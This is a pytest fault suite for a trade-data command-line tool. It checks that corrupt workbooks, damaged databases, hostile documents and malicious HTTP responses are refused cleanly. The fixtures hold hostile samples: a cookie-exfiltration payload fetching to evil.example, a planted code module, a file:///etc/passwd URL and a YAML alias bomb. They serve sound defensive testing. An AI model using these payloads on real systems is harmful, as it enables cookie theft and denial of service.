"""The fault suite (issue 19): hostile and broken inputs, each with a documented exit code, one
line naming the file and field, and the warehouse and ledger byte-identical afterwards (or the
documented new state). Everything is built here from the shipped data, never from ../shared.

Classes: vintages (bad or revising files), corruption, cache, refresh, documents, and the
errors main() maps (OS, DuckDB, decoding, recursion, Ctrl-C).
"""

from __future__ import annotations

import errno
import shutil
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import duckdb
import pytest

from cli_helpers import run
from fault_helpers import census_rows, copy_home, digest, hostile_server, workbook
from trilateral.config import SNAPSHOT_DIR
from trilateral.evidence.store import PACKAGED_LEDGER
from trilateral.sources.census_country import HEADER

# ---------------------------------------------------------------- one home for the module


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A warehouse built once from the bundled snapshots, and a copy of the packaged ledger."""
    root = tmp_path_factory.mktemp("faults")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("TRILATERAL_HOME", str(root / "home"))
        ledger = root / "ledger.jsonl"
        shutil.copyfile(PACKAGED_LEDGER, ledger)
        mp.setenv("TRILATERAL_LEDGER", str(ledger))
        from trilateral.warehouse import open_warehouse

        open_warehouse(root / "home")
        yield root


@pytest.fixture
def env(home: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("TRILATERAL_HOME", str(home / "home"))
    monkeypatch.setenv("TRILATERAL_LEDGER", str(home / "ledger.jsonl"))
    monkeypatch.setenv("TRILATERAL_HTTP_RETRIES", "0")
    monkeypatch.setenv("TRILATERAL_HTTP_BACKOFF", "0")
    return home


@pytest.fixture
def own_home(home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A copy of the module's home, for cases that damage or change it."""
    dst = copy_home(home / "home", tmp_path / "home")
    monkeypatch.setenv("TRILATERAL_HOME", str(dst))
    monkeypatch.setenv("TRILATERAL_LEDGER", str(home / "ledger.jsonl"))
    return dst


def state(home: Path) -> tuple[str, str]:
    return digest(home / "home" / "warehouse.duckdb"), digest(home / "ledger.jsonl")


def one_line(err: str) -> str:
    lines = [x for x in err.strip().splitlines() if x.strip()]
    assert len(lines) == 1, f"expected one line, got: {err!r}"
    assert lines[0].startswith("error: ") and "Traceback" not in err
    return lines[0]


# ---------------------------------------------------------------- vintages: census workbooks


def _cell(rows: list[list[object]], r: int, field: str, value: object) -> list[list[object]]:
    rows = [list(x) for x in rows]
    rows[r][HEADER.index(field)] = value
    return rows


def _book(tmp: Path, **kw: object) -> Path:
    return workbook(tmp / "country.xlsx", **kw)  # type: ignore[arg-type]


def _rows() -> list[list[object]]:
    return census_rows()


def _zip_without_core(tmp: Path) -> Path:
    good = _book(tmp, rows=_rows())
    out = tmp / "cut.xlsx"
    data = good.read_bytes()
    out.write_bytes(data[: len(data) // 2])
    return out


def _csv(tmp: Path) -> Path:
    p = tmp / "country.xlsx"
    p.write_text(",".join(HEADER) + "\n2023,1220,Canada\n")
    return p


def _binary(tmp: Path) -> Path:
    p = tmp / "country.xlsx"
    p.write_bytes(bytes(range(256)) * 8)
    return p


def _empty(tmp: Path) -> Path:
    p = tmp / "country.xlsx"
    p.write_bytes(b"")
    return p


def _bad_member(tmp: Path) -> Path:
    p = tmp / "country.xlsx"
    with zipfile.ZipFile(p, "w") as zf:
        zf.writestr("xl/workbook.xml", "<not a workbook")
    return p


# (id, file builder, extra args, exit code, text in the message, field named)
LOADS: list[tuple[str, Callable[[Path], Path], list[str], int, str, str | None]] = [
    ("header-only", lambda t: _book(t, rows=[]), [], 3, "0 rows against", "census_country"),
    ("thousands", lambda t: _book(t, rows=census_rows(scale=1000.0)), [], 3, "median ratio",
     "census_country"),
    ("shorter-older", lambda t: _book(t, rows=census_rows(years=range(2015, 2018))), [], 3,
     "lost", "census_country"),
    ("one-partner", lambda t: _book(t, rows=census_rows(partners=("CAN",))), [], 3,
     "partner value", "census_country"),
    ("inf-text", lambda t: _book(t, rows=_cell(_rows(), 0, "IJAN", "inf")), [], 3, "non-finite",
     "IJAN"),
    ("minus-inf", lambda t: _book(t, rows=_cell(_rows(), 1, "EMAR", "-inf")), [], 3, "", "EMAR"),
    ("overflow", lambda t: _book(t, rows=_cell(_rows(), 2, "EYR", "1e999")), [], 3, "",
     "EYR"),
    ("nan-text", lambda t: _book(t, rows=_cell(_rows(), 0, "IFEB", "twelve")), [], 3, "not a number",
     "IFEB"),
    ("year-0001", lambda t: _book(t, rows=_cell(_rows(), 0, "year", "0001")), [], 3, "implausible",
     "year"),
    ("year-9999", lambda t: _book(t, rows=_cell(_rows(), 3, "year", "9999")), [], 3, "implausible",
     "year"),
    ("year-1700", lambda t: _book(t, rows=_cell(_rows(), 0, "year", "1700")), [], 3, "implausible",
     "year"),
    ("year-text", lambda t: _book(t, rows=_cell(_rows(), 0, "year", "20x3")), [], 3,
     "not an integer", "year"),
    ("imports-total", lambda t: _book(t, rows=_cell(_rows(), 0, "IYR", 1.0)), [], 3,
     "sum of its months", "IYR"),
    ("exports-total", lambda t: _book(t, rows=_cell(_rows(), 4, "EYR", 99999999.0)), [], 3,
     "sum of its months", "EYR"),
    ("negative", lambda t: _book(t, rows=_cell(_rows(), 0, "EJAN", -5.0)), [], 3, "negative",
     "EJAN"),
    ("unknown-country", lambda t: _book(t, rows=_cell(_rows(), 0, "CTYNAME", "Atlantis")), [], 3,
     "unknown country", "CTYNAME"),
    ("duplicate-row", lambda t: _book(t, rows=[*_rows(), _rows()[0]]), [], 3, "duplicate", "year"),
    ("wrong-header", lambda t: _book(t, rows=_rows(), header=("year", "CODE", *HEADER[2:])), [], 3,
     "header column", "CODE"),
    ("no-sheet", lambda t: _book(t, rows=_rows(), sheet="data"), [], 3, "no sheet", None),
    ("csv-named-xlsx", _csv, [], 3, "not an Excel", None),
    ("binary", _binary, [], 3, "not an Excel", None),
    ("empty-file", _empty, [], 3, "not an Excel", None),
    ("truncated-zip", _zip_without_core, [], 3, "corrupt", None),
    ("bad-member", _bad_member, [], 3, "", None),
    ("empty-reason", lambda t: _book(t, rows=[]), ["--accept-revision", " "], 3, "needs a reason",
     "accept-revision"),
]


@pytest.mark.parametrize(("case", "build", "extra", "code", "text", "field"), LOADS,
                         ids=[c[0] for c in LOADS])
def test_bad_or_revising_file_is_refused(capsys, env: Path, tmp_path: Path, case, build, extra, code,
                                         text, field) -> None:
    before = state(env)
    path = build(tmp_path)
    got, _, err = run(["data", "load", "census-country", str(path), *extra], capsys)
    line = one_line(err)
    assert got == code, line
    assert str(path) in line and text in line
    if field:
        assert f"field '{field}'" in line
    assert state(env) == before
    assert not list((env / "home").glob(".warehouse.*"))


NOT_FOUND = [
    ("missing-file", ["data", "load", "census-country", "/nonexistent/country.xlsx"], 4,
     "no such file"),
    ("unknown-source", ["data", "load", "no-such-source", "x.xlsx"], 4, "no-such-source"),
    ("bundled-only", ["data", "load", "agtpa", "x.csv"], 4, ""),
    ("use-unknown-vintage", ["data", "use", "census-country", "--vintage", "99"], 4, "no vintage"),
    ("use-unknown-table", ["data", "use", "nothing", "--vintage", "1"], 4, "nothing"),
    ("use-derived", ["data", "use", "trade_flows", "--vintage", "1"], 3, "derived"),
    ("revisions-unknown", ["data", "revisions", "nothing"], 4, "nothing"),
    ("show-unknown-vintage", ["data", "show", "census_country", "--vintage", "v9"], 4,
     "no vintage"),
]


@pytest.mark.parametrize(("case", "argv", "code", "text"), NOT_FOUND,
                         ids=[c[0] for c in NOT_FOUND])
def test_unknown_names_one_line(capsys, env: Path, case, argv, code, text) -> None:
    before = state(env)
    got, _, err = run(argv, capsys)
    line = one_line(err)
    assert got == code and text in line
    assert state(env) == before


def test_header_only_workbook_refused_accepted_shown_and_undone(own_home: Path, tmp_path: Path,
                                                                capsys) -> None:
    """The acceptance test of issue 19 for `data load census-country`."""
    path = workbook(tmp_path / "country.xlsx", [])
    original = digest(own_home / "warehouse.duckdb")
    code, _, err = run(["data", "load", "census-country", str(path)], capsys)
    assert code == 3 and "refused as a revision" in one_line(err)
    assert digest(own_home / "warehouse.duckdb") == original
    code, out, err = run(["data", "load", "census-country", str(path), "--accept-revision",
                          "publisher withdrew every row"], capsys)
    assert code == 0, err
    code, out, _ = run(["data", "revisions", "census-country"], capsys)
    assert code == 0 and "0 rows" in out and "accepted: publisher withdrew every row" in out
    from trilateral import data

    assert len(data.table("census_country")) == 0
    code, out, err = run(["data", "use", "census-country", "--vintage", "1"], capsys)
    assert code == 0, err
    assert len(data.table("census_country")) == 16406
    code, out, _ = run(["data", "revisions", "census-country"], capsys)
    assert "use vintage 2024-11-01" in out
    flows = data.table("trade_flows")
    assert (flows.source == "census-country").any()


def test_older_release_is_refused(own_home: Path, tmp_path: Path, capsys) -> None:
    newer = workbook(tmp_path / "a.xlsx", census_rows(), modified="2025-03-01T00:00:00")
    code, _, err = run(["data", "load", "census-country", str(newer), "--accept-revision",
                        "a two-partner extract"], capsys)
    assert code == 0, err
    older = workbook(tmp_path / "b.xlsx", census_rows()[::-1],  # same figures, older release
                     modified="2020-01-01T00:00:00")
    before = digest(own_home / "warehouse.duckdb")
    code, _, err = run(["data", "load", "census-country", str(older)], capsys)
    line = one_line(err)
    assert code == 3 and "older release (2020-01-01 before 2025-03-01)" in line
    assert digest(own_home / "warehouse.duckdb") == before


def test_a_new_vintage_within_thresholds_goes_in(own_home: Path, tmp_path: Path, capsys) -> None:
    first = workbook(tmp_path / "a.xlsx", census_rows(), modified="2025-01-01T00:00:00")
    run(["data", "load", "census-country", str(first), "--accept-revision", "extract"], capsys)
    revised = [list(r) for r in census_rows()]
    revised[0][HEADER.index("IJAN")] = revised[0][HEADER.index("IJAN")] + 1.0
    revised[0][HEADER.index("IYR")] = revised[0][HEADER.index("IYR")] + 1.0
    second = workbook(tmp_path / "b.xlsx", revised, modified="2025-02-01T00:00:00")
    code, out, err = run(["data", "load", "census-country", str(second)], capsys)
    assert code == 0, err


# ---------------------------------------------------------------- corruption


def _garbage(p: Path) -> None:
    p.write_bytes(b"\x00garbage" * 4096)


def _halve(p: Path) -> None:
    data = p.read_bytes()
    p.write_bytes(data[: len(data) // 2])


def _zero(p: Path) -> None:
    p.write_bytes(b"")


def _drop_meta(p: Path) -> None:
    with duckdb.connect(str(p)) as con:
        con.execute("DROP TABLE _meta")


def _flip_blocks(p: Path) -> None:
    data = bytearray(p.read_bytes())
    for i in range(8192, len(data), 65536):
        data[i:i + 64] = b"\xff" * 64
    p.write_bytes(bytes(data))


CORRUPT = [("garbage", _garbage), ("truncated", _halve), ("zero-bytes", _zero),
           ("no-meta", _drop_meta), ("flipped-blocks", _flip_blocks)]


@pytest.mark.parametrize(("case", "damage"), CORRUPT, ids=[c[0] for c in CORRUPT])
def test_corrupt_warehouse_is_loud(own_home: Path, capsys, case, damage) -> None:
    wh = own_home / "warehouse.duckdb"
    damage(wh)
    damaged = digest(wh)
    code, _, err = run(["data", "list"], capsys)
    line = one_line(err)
    assert code == 7, line
    assert "trilateral data recover" in line and "warehouse" in line
    assert digest(wh) == damaged  # never a silent rebuild


def test_recover_reregisters_user_vintages(own_home: Path, tmp_path: Path, capsys) -> None:
    book = workbook(tmp_path / "country.xlsx", census_rows())
    code, _, err = run(["data", "load", "census-country", str(book), "--accept-revision", "x"],
                       capsys)
    assert code == 0, err
    _garbage(own_home / "warehouse.duckdb")
    code, _, err = run(["data", "list"], capsys)
    assert code == 7
    code, out, err = run(["data", "recover"], capsys)
    assert code == 0, err
    assert "re-registered 1 load" in out and "damaged copy kept" in out
    from trilateral import data

    assert len(data.table("census_country")) == len(census_rows()) * 2
    assert list(own_home.glob("warehouse.duckdb.damaged-*"))


def test_recover_reregisters_kept_files_the_journal_lost(own_home: Path, tmp_path: Path,
                                                         capsys) -> None:
    book = workbook(tmp_path / "country.xlsx", census_rows())
    run(["data", "load", "census-country", str(book), "--accept-revision", "x"], capsys)
    (own_home / "vintages" / "journal.jsonl").unlink()
    _halve(own_home / "warehouse.duckdb")
    code, out, err = run(["data", "recover"], capsys)
    assert code == 0 and "re-registered 1 load" in out, err


def _stale(p: Path, sql: str = "") -> None:
    """Mark the warehouse as built from other snapshots, so the next command rebuilds it."""
    from trilateral.warehouse import store

    store._DEFAULT = None  # a new process would not remember the checked fingerprint
    with duckdb.connect(str(p)) as con:
        con.execute("UPDATE _meta SET value = 'stale' WHERE key = 'fingerprint'")
        if sql:
            con.execute(sql)


def test_missing_kept_file_stops_a_rebuild(own_home: Path, tmp_path: Path, capsys) -> None:
    book = workbook(tmp_path / "country.xlsx", census_rows())
    run(["data", "load", "census-country", str(book), "--accept-revision", "x"], capsys)
    for f in (own_home / "vintages" / "census-country").iterdir():
        f.unlink()
    _stale(own_home / "warehouse.duckdb")
    before = digest(own_home / "warehouse.duckdb")
    code, _, err = run(["data", "list"], capsys)
    line = one_line(err)
    assert code == 7 and "missing or changed" in line and "trilateral data recover" in line
    assert digest(own_home / "warehouse.duckdb") == before


def test_tampered_snapshot_is_refused(tmp_path: Path) -> None:
    from trilateral.errors import CorruptError
    from trilateral.warehouse import Warehouse

    snaps = tmp_path / "snapshots"
    snaps.mkdir()
    for suffix in (".json", ".parquet"):
        shutil.copyfile(SNAPSHOT_DIR / f"census_country{suffix}", snaps / f"census_country{suffix}")
    with (snaps / "census_country.parquet").open("ab") as fh:
        fh.write(b"\0")
    (tmp_path / "home").mkdir()
    with pytest.raises(CorruptError) as exc:
        Warehouse(tmp_path / "home", snapshot_dir=snaps).ensure()
    assert exc.value.exit_code == 7 and "census_country.parquet" in str(exc.value)
    assert "force-reinstall" in str(exc.value)
    assert not (tmp_path / "home" / "warehouse.duckdb").exists()


def test_leftover_temp_copies_are_cleaned(own_home: Path, capsys) -> None:
    from trilateral.warehouse import Warehouse

    left = [own_home / ".warehouse.abc123.duckdb", own_home / ".warehouse.abc123.duckdb.wal"]
    for f in left:
        f.write_bytes(b"partial")
    Warehouse(own_home).ensure()
    assert not any(f.exists() for f in left)


# ---------------------------------------------------------------- tampering: nothing runs code


def test_stored_parser_string_is_never_imported(own_home: Path, tmp_path: Path, capsys,
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    sentinel = tmp_path / "ran"
    (tmp_path / "payload_mod.py").write_text(
        f"from pathlib import Path\nPath({str(sentinel)!r}).write_text('ran')\n"
        f"def run(path, vintage):\n    Path({str(sentinel)!r}).write_text('ran')\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    book = workbook(tmp_path / "country.xlsx", census_rows())
    run(["data", "load", "census-country", str(book), "--accept-revision", "x"], capsys)
    _stale(own_home / "warehouse.duckdb", "UPDATE _loads SET parser = 'payload_mod:run'")
    before = digest(own_home / "warehouse.duckdb")
    code, _, err = run(["data", "list"], capsys)
    line = one_line(err)
    assert code == 7 and "payload_mod:run" in line and "not a registered parser" in line
    assert not sentinel.exists() and "payload_mod" not in sys.modules
    assert digest(own_home / "warehouse.duckdb") == before


def test_replaced_chart_bundle_is_not_inlined(own_home: Path,
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    import hashlib

    import vl_convert
    from altair.utils._importers import vl_version_for_vl_convert

    from trilateral.paths import cache
    from trilateral.report import html

    shipped = "/* the package's bundle */"
    version = f"{vl_convert.__version__}-{vl_version_for_vl_convert()}"
    monkeypatch.setitem(html.VL_BUNDLE_SHA256, version,
                        hashlib.sha256(shipped.encode()).hexdigest())
    monkeypatch.setattr(vl_convert, "javascript_bundle", lambda **kw: shipped)
    payload = b"fetch('https://evil.example/'+document.cookie)"
    cache.write(html.VL_BUNDLE_KIND, version, payload, ".js")  # with a valid .sha256 beside it
    html.vega_bundle.cache_clear()
    try:
        assert html.vega_bundle() == shipped
        monkeypatch.setattr(vl_convert, "javascript_bundle", lambda **kw: "/* altered */")
        cache.write(html.VL_BUNDLE_KIND, version, payload, ".js")
        html.vega_bundle.cache_clear()
        from trilateral.errors import CorruptError

        with pytest.raises(CorruptError):
            html.vega_bundle()
    finally:
        html.vega_bundle.cache_clear()


# ---------------------------------------------------------------- cache entries


def test_damaged_result_cache_entries_are_recomputed(own_home: Path) -> None:
    from trilateral.paths import cache

    k = cache.key("fault-test", n=1)
    path = cache.write("fault-test", k, b'{"score": 0.5}')
    assert cache.read("fault-test", k) == b'{"score": 0.5}'
    path.write_bytes(b'{"score": 0.')  # truncated
    assert cache.read("fault-test", k) is None
    path.write_bytes(b'{"score": 9.9}')  # edited
    assert cache.read("fault-test", k) is None
    path.with_name(path.name + ".sha256").unlink()
    assert cache.read("fault-test", k) is None


@pytest.mark.parametrize("damage", [b"", b"{", b'{"sha256": "x", "value": {"a": 1}}', b"[1]"],
                         ids=["empty", "truncated", "bad-checksum", "wrong-shape"])
def test_damaged_model_cache_entries_are_recomputed(own_home: Path, damage: bytes) -> None:
    from trilateral.outlook import cache as ocache

    calls = []
    k = ocache.key("fault", damage)
    ocache.cached(k, lambda: calls.append(1) or {"a": 1})
    path = ocache.directory() / k[:2] / f"{k}.json"
    path.write_bytes(damage)
    assert ocache.cached(k, lambda: calls.append(1) or {"a": 2}) == {"a": 2}
    assert len(calls) == 2
    assert ocache.cached(k, lambda: calls.append(1) or {"a": 3}) == {"a": 2}


def test_cache_key_follows_the_warehouse_state(own_home: Path, tmp_path: Path, capsys) -> None:
    from trilateral.paths import cache

    before = cache.key("report", as_of=None)
    run(["data", "load", "census-country", str(workbook(tmp_path / "c.xlsx", census_rows())),
         "--accept-revision", "x"], capsys)
    after_load = cache.key("report", as_of=None)
    run(["data", "use", "census-country", "--vintage", "1"], capsys)
    after_use = cache.key("report", as_of=None)
    assert len({before, after_load, after_use}) == 3


# ---------------------------------------------------------------- refresh on 127.0.0.1


@pytest.fixture(scope="module")
def good_xlsx(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    return workbook(tmp_path_factory.mktemp("x") / "c.xlsx", census_rows()).read_bytes()


def _cache_bodies(home: Path) -> list[Path]:
    return [p for p in (home / "http-cache").glob("*") if not p.name.endswith(".lock")] \
        if (home / "http-cache").is_dir() else []


REFRESH = [
    ("cross-host-redirect", "/cross-host", {}, "host localhost is not the publisher's"),
    ("redirect-loop", "/loop", {}, "more than 5 redirects"),
    ("gzip-bomb", "/bomb", {"TRILATERAL_HTTP_MAX_BYTES": "1000000"}, "larger than the cap"),
    ("slow-drip", "/drip", {"TRILATERAL_HTTP_DEADLINE": "1", "TRILATERAL_HTTP_TIMEOUT": "5"},
     "deadline"),
    ("http-404", "/missing", {}, "HTTP 404"),
]


@pytest.mark.parametrize(("case", "path", "envs", "text"), REFRESH, ids=[c[0] for c in REFRESH])
def test_refresh_refuses_what_it_did_not_ask_for(capsys, env: Path, good_xlsx: bytes, monkeypatch,
                                                 case, path, envs, text) -> None:
    before = state(env)
    with hostile_server(good_xlsx) as srv:
        monkeypatch.setenv("TRILATERAL_URL_CENSUS_COUNTRY", srv.url(path))
        for k, v in envs.items():
            monkeypatch.setenv(k, v)
        start = time.monotonic()
        code, _, err = run(["data", "refresh", "census-country"], capsys)
        took = time.monotonic() - start
    line = one_line(err)
    assert code == 5 and text in line, line
    assert "census-country" in line and "127.0.0.1" in line
    assert took < 8
    assert state(env) == before
    assert not [p for p in _cache_bodies(env / "home") if p.suffix in (".body", ".json")]


BAD_URLS = [("no-scheme", "country.xlsx"), ("file-scheme", "file:///etc/passwd"),
            ("bad-port", "http://127.0.0.1:99999/x"), ("no-host", "https:///x.xlsx"),
            ("ftp", "ftp://127.0.0.1/x.xlsx")]


@pytest.mark.parametrize(("case", "url"), BAD_URLS, ids=[c[0] for c in BAD_URLS])
def test_malformed_endpoints_exit_5(capsys, env: Path, monkeypatch, case, url) -> None:
    before = state(env)
    monkeypatch.setenv("TRILATERAL_URL_CENSUS_COUNTRY", url)
    code, _, err = run(["data", "refresh", "census-country"], capsys)
    line = one_line(err)
    assert code == 5 and "census-country" in line, line
    assert state(env) == before


def test_same_host_redirect_is_followed_and_the_final_url_recorded(
        own_home: Path, good_xlsx: bytes, monkeypatch, capsys) -> None:
    import json

    with hostile_server(good_xlsx) as srv:
        monkeypatch.setenv("TRILATERAL_URL_CENSUS_COUNTRY", srv.url("/same-host"))
        code, out, err = run(["data", "refresh", "census-country", "--accept-revision", "x",
                              "--json"], capsys)
    assert code == 0, err
    doc = json.loads(out)
    doc = doc.get("data", doc)
    assert doc["sources"][0]["url"].endswith("/ok.xlsx")
    from trilateral import data

    prov = [p for p in data.provenance("census_country") if p["current"]][0]["provenance"]
    assert prov["origin"].endswith("/ok.xlsx")


def test_a_body_that_fails_validation_is_not_cached(own_home: Path, monkeypatch,
                                                    capsys) -> None:
    with hostile_server(b"PK\x03\x04 not really a workbook") as srv:
        monkeypatch.setenv("TRILATERAL_URL_CENSUS_COUNTRY", srv.url("/ok.xlsx"))
        code, _, err = run(["data", "refresh", "census-country"], capsys)
    assert code == 3 and "field" not in err or code == 3
    assert not [p for p in _cache_bodies(own_home) if p.suffix in (".body", ".json")]


def _self_signed(tmp: Path) -> tuple[Path, Path]:
    key, cert = tmp / "key.pem", tmp / "cert.pem"
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout",
                    str(key), "-out", str(cert), "-days", "1", "-subj", "/CN=127.0.0.1",
                    "-addext", "subjectAltName=IP:127.0.0.1"], check=True, capture_output=True)
    return key, cert


@pytest.mark.skipif(shutil.which("openssl") is None, reason="openssl is needed for a local TLS "
                    "server")
def test_https_to_http_redirect_is_refused(own_home: Path, tmp_path: Path, good_xlsx: bytes,
                                           monkeypatch) -> None:
    import ssl
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    import httpx

    from trilateral.live import refresh as live_refresh  # the function
    from trilateral.live.transport import Transport

    key, cert = _self_signed(tmp_path)

    class Down(BaseHTTPRequestHandler):
        def log_message(self, *a: object) -> None:
            pass

        def do_GET(self) -> None:  # noqa: N802
            self.send_response(302)
            self.send_header("Location", f"http://127.0.0.1:{self.server.server_address[1]}/x")
            self.send_header("Content-Length", "0")
            self.end_headers()

    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Down)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(cert, key)
    httpd.socket = ctx.wrap_socket(httpd.socket, server_side=True)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    try:
        url = f"https://127.0.0.1:{httpd.server_address[1]}/country.xlsx"
        monkeypatch.setenv("TRILATERAL_URL_CENSUS_COUNTRY", url)
        client = httpx.Client(verify=ssl.create_default_context(cafile=str(cert)))
        with Transport(client=client) as t:
            report = live_refresh(["census-country"], transport=t)
    finally:
        httpd.shutdown()
        httpd.server_close()
    err = report.error
    assert err is not None and err.exit_code == 5
    assert "downgrades https to http" in str(err)
    assert not [p for p in _cache_bodies(own_home) if p.suffix in (".body", ".json")]


# ---------------------------------------------------------------- documents


def _alias_bomb() -> str:
    lines = ["---", "a: &a [x, x, x, x, x, x, x, x, x]"]
    for prev, name in zip("abcdefg", "bcdefgh", strict=True):
        lines.append(f"{name}: &{name} [{', '.join(['*' + prev] * 9)}]")
    return "\n".join([*lines, "---", "Canada and Mexico retaliate."]) + "\n"


DOCS = [
    ("alias-bomb", _alias_bomb().encode(), "YAML aliases", "front matter"),
    ("empty", b"", "empty document", None),
    ("whitespace", b"  \n\n\t\n", "empty document", None),
    ("front-matter-only", b"---\ntitle: Tariffs\n---\n", "empty document", None),
    ("markup-only", b"**  ** [](x) <br>", "empty document", None),
    ("nul-bytes", b"Canada\x00Mexico", "NUL", None),
    ("not-utf8", b"Canad\xe1 tariffs \xff", "UTF-8", None),
    ("zero-width-only", "\u200b\u200c\u200d\u2060\ufeff".encode(), "empty document", None),
    ("huge-front-matter", ("---\nt: " + "x" * 70000 + "\n---\nbody\n").encode(), "front matter",
     "front matter"),
]


@pytest.mark.parametrize(("case", "raw", "text", "field"), DOCS, ids=[c[0] for c in DOCS])
def test_hostile_documents_are_refused(tmp_path: Path, case, raw, text, field) -> None:
    from trilateral.errors import InputError
    from trilateral.evidence.documents import read_document

    path = tmp_path / "doc.md"
    path.write_bytes(raw)
    with pytest.raises(InputError) as exc:
        read_document(path)
    assert exc.value.exit_code == 3 and str(path) in str(exc.value) and text in str(exc.value)
    if field:
        assert exc.value.location.field == field


@pytest.mark.parametrize("text", ["[" * 50_000, "<" * 50_000, "[a](" * 20_000, "](" * 50_000],
                         ids=["brackets", "angles", "open-links", "closers"])
def test_document_cleaning_is_linear(text: str) -> None:
    from trilateral.evidence.documents import clean_markdown

    start = time.monotonic()
    clean_markdown(text + " Canada")
    assert time.monotonic() - start < 1.0


def test_format_characters_cannot_hide_words() -> None:
    from trilateral.evidence.documents import parse_document

    doc = parse_document("Canada imposes retal\u200biatory tar\u00adiffs \u202eon U.S. steel")
    assert "retaliatory tariffs" in doc.text and "\u202e" not in doc.text


# ---------------------------------------------------------------- what main() maps


def _raiser(exc: BaseException) -> Callable[..., object]:
    def boom(*args: object, **kwargs: object) -> object:
        raise exc
    return boom


MAPPED = [
    ("no-space", OSError(errno.ENOSPC, "No space left on device", "/data/x"), 7, "no space"),
    ("read-only", OSError(errno.EROFS, "Read-only file system", "/data/x"), 7, "read-only"),
    ("not-a-dir", NotADirectoryError(errno.ENOTDIR, "Not a directory", "/data/x"), 7,
     "not a directory"),
    ("permission", PermissionError(errno.EACCES, "Permission denied", "/data/x"), 7,
     "permission denied"),
    ("duckdb-io", duckdb.IOException("Could not read block 42"), 7, "trilateral data recover"),
    ("duckdb-corrupt", duckdb.Error("Corrupt database file"), 7, "warehouse error"),
    ("decoding", UnicodeDecodeError("utf-8", b"\xff", 0, 1, "invalid start byte"), 3,
     "not valid text"),
    ("recursion", RecursionError("maximum recursion depth exceeded"), 3, "nested too deeply"),
    ("memory", MemoryError(), 3, "out of memory"),
    ("ctrl-c", KeyboardInterrupt(), 130, "interrupted"),
    ("unexpected", ZeroDivisionError("division by zero"), 1, "--debug"),
]


@pytest.mark.parametrize(("case", "exc", "code", "text"), MAPPED, ids=[c[0] for c in MAPPED])
def test_main_maps_errors_to_one_line(capsys, env: Path, monkeypatch, case, exc, code, text) -> None:
    from trilateral import data

    before = state(env)
    monkeypatch.setattr(data, "tables", _raiser(exc))
    got, _, err = run(["data", "list"], capsys)
    line = one_line(err)
    assert got == code and text in line, line
    assert state(env) == before


def test_debug_shows_the_traceback(env: Path, monkeypatch) -> None:
    from trilateral import data
    from trilateral.cli import main

    monkeypatch.setattr(data, "tables", _raiser(ZeroDivisionError("x")))
    with pytest.raises(ZeroDivisionError):
        main(["--debug", "data", "list"])


def test_ctrl_c_during_a_write_leaves_the_warehouse_intact(own_home: Path, tmp_path: Path,
                                                            monkeypatch, capsys) -> None:
    from trilateral.warehouse.store import Warehouse

    before = digest(own_home / "warehouse.duckdb")
    monkeypatch.setattr(Warehouse, "_apply_load", _raiser(KeyboardInterrupt()))
    book = workbook(tmp_path / "country.xlsx", census_rows())
    code, _, err = run(["data", "load", "census-country", str(book), "--accept-revision", "x"],
                       capsys)
    assert code == 130 and "interrupted" in one_line(err)
    assert digest(own_home / "warehouse.duckdb") == before
    assert not list(own_home.glob(".warehouse.*"))


OUTS = [("dev-full", "/dev/full", "no space"), ("missing-dir", "/nonexistent/dir/x.csv", ""),
        ("is-a-dir", "/tmp", "")]


@pytest.mark.parametrize(("case", "out", "text"), OUTS, ids=[c[0] for c in OUTS])
def test_unwritable_out_is_one_line(capsys, env: Path, case, out, text) -> None:
    if case == "dev-full" and not Path("/dev/full").exists():
        pytest.skip("no /dev/full on this system")
    before = state(env)
    code, _, err = run(["data", "show", "census_country", "--format", "csv", "--out", out],
                       capsys)
    line = one_line(err)
    assert code in (2, 7) and text in line, line
    assert state(env) == before


def test_home_below_a_file_is_one_line(tmp_path: Path, monkeypatch, capsys) -> None:
    (tmp_path / "file").write_text("x")
    monkeypatch.setenv("TRILATERAL_HOME", str(tmp_path / "file" / "home"))
    code, _, err = run(["data", "list"], capsys)
    assert code == 7 and "not a directory" in one_line(err)


# ---------------------------------------------------------------- ledger and settings


def test_non_utf8_ledger_is_one_line(tmp_path: Path, monkeypatch, capsys) -> None:
    bad = tmp_path / "ledger.jsonl"
    bad.write_bytes(PACKAGED_LEDGER.read_bytes()[:500] + b"\n\xff\xfe broken\n")
    monkeypatch.setenv("TRILATERAL_LEDGER", str(bad))
    before = digest(bad)
    for argv in (["ledger", "validate"], ["ledger", "list"]):
        code, _, err = run(argv, capsys)
        line = one_line(err)
        assert code == 3 and str(bad) in line and "UTF-8" in line and "row" in line, line
    assert digest(bad) == before


def test_missing_named_ledger_is_an_error(tmp_path: Path, monkeypatch, capsys) -> None:
    monkeypatch.setenv("TRILATERAL_LEDGER", str(tmp_path / "nope.jsonl"))
    code, _, err = run(["ledger", "list"], capsys)
    assert code == 4 and "nope.jsonl" in one_line(err)


SETTINGS = [
    ("timeout-text", {"TRILATERAL_HTTP_TIMEOUT": "soon"}, "TRILATERAL_HTTP_TIMEOUT", "timeout"),
    ("deadline-zero", {"TRILATERAL_HTTP_DEADLINE": "0"}, "TRILATERAL_HTTP_DEADLINE", "deadline"),
    ("cap-text", {"TRILATERAL_HTTP_MAX_BYTES": "lots"}, "TRILATERAL_HTTP_MAX_BYTES", "max_bytes"),
]


@pytest.mark.parametrize(("case", "envs", "where", "field"), SETTINGS,
                         ids=[c[0] for c in SETTINGS])
def test_bad_settings_name_the_variable(capsys, env: Path, monkeypatch, case, envs, where,
                                        field) -> None:
    before = state(env)
    monkeypatch.setenv("TRILATERAL_URL_CENSUS_COUNTRY", "http://127.0.0.1:9/x.xlsx")
    for k, v in envs.items():
        monkeypatch.setenv(k, v)
    code, _, err = run(["data", "refresh", "census-country"], capsys)
    line = one_line(err)
